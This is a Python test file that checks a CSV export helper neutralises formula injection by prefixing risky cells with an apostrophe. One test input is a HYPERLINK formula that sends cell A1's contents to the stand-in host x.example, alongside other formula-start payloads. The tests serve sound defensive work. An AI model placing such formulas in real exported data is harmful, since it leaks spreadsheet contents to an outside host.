"""CSV cells can never become formulas in a spreadsheet program."""

import csv
import io

import pytest

from veiligthuis.spreadsheet import csv_bytes, safe_cell


@pytest.mark.parametrize(
    "attack",
    ['=HYPERLINK("http://x.example/?"&A1;"klik")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"],
)
def test_formula_starts_are_neutralised(attack):
    data = csv_bytes(["antwoord"], [[attack]])
    (row,) = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))[1:]
    assert row == ["'" + attack]


def test_ordinary_text_and_numbers_stay_as_they_are():
    assert safe_cell("De andere vrouwen") == "De andere vrouwen"
    assert safe_cell(-3) == -3 and safe_cell(4.5) == 4.5
    text = csv_bytes(["a", "b"], [["tekst", -3]]).decode("utf-8")
    assert text.startswith("\ufeffa;b") and "tekst;-3" in text
